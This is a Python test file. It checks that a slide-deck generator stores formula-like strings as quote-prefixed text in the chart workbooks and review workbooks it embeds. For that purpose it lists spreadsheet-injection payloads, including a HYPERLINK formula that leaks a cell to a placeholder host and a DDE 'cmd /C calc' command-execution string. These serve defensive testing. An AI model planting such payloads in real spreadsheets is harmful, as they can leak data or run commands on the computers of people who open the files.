"""No live formula in the deck: the workbooks embedded behind its charts (what
PowerPoint's 「データの編集」 opens) hold text as text, like every other workbook."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import yaml
from openpyxl import load_workbook
from pptx import Presentation

from conftest import Cli
from kakeai_ops.outputs.review_pptx import Chart, Slide, write_deck
from kakeai_ops.workspace import Workspace

PAYLOADS = [
    '=HYPERLINK("https://x.invalid/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
]


def embedded_cells(deck: Path) -> list[tuple[str, object, bool]]:
    """(data type, value, quote-prefixed) of every cell of every chart workbook."""
    cells = []
    with zipfile.ZipFile(deck) as archive:
        books = [n for n in archive.namelist() if n.endswith(".xlsx")]
        assert books, "the deck has no embedded chart workbook"
        for name in books:
            book = load_workbook(io.BytesIO(archive.read(name)))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.value is not None:
                            cells.append((cell.data_type, cell.value, bool(cell.quotePrefix)))
    return cells


def test_chart_workbooks_hold_formula_like_text_as_text(tmp_path: Path) -> None:
    chart = Chart("column", "t", PAYLOADS, [("=1+1", [1.0] * 5), ("@x", [2.0] * 5)])
    deck = write_deck([Slide("s", chart=chart)], tmp_path / "d.pptx")
    cells = embedded_cells(deck)
    assert not [c for c in cells if c[0] == "f"], cells
    texts = {value: quoted for kind, value, quoted in cells if kind == "s"}
    for payload in [*PAYLOADS, "=1+1", "@x"]:
        assert payload in texts, (payload, texts)
        assert texts[payload], f"{payload!r} is not quote-prefixed"


def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
    sample_copy: Workspace, tmp_path: Path
) -> None:
    data = yaml.load(sample_copy.config_path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    campaign = data["campaigns"].pop("exec-1on1-2026h2")
    # As an id, without '/' (an id names mail runs and their folders: kops.yaml refuses one
    # with '/'); the title keeps the whole link.
    hostile = '=HYPERLINK("https://x.invalid/?"&A1,"x")'
    campaign["title"] = hostile  # slide 7's table and message name campaigns by title
    campaign_id = '=HYPERLINK("x.invalid?"&A1,"x")'
    data["campaigns"][campaign_id] = campaign
    sample_copy.config_path.write_text(
        yaml.dump(data, allow_unicode=True, Dumper=yaml.CSafeDumper), "utf-8"
    )
    deck, book = tmp_path / "deck.pptx", tmp_path / "deck.xlsx"
    Cli(sample_copy)("review", "--out", str(deck), "--xlsx", str(book))
    assert not [c for c in embedded_cells(deck) if c[0] == "f"]
    slide = next(
        s
        for s in Presentation(str(deck)).slides
        if any(
            shape.name == "Topic" and shape.text_frame.text.startswith("7.") for shape in s.shapes
        )
    )
    table = next(shape.table for shape in slide.shapes if shape.has_table)
    assert table.cell(1, 0).text == hostile  # the campaign's row, as written
    # The review workbook's sheet 7 holds it as text, quote-prefixed.
    sheet = next(s for s in load_workbook(book).worksheets if s.title.startswith("7_"))
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (hostile, campaign_id)]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
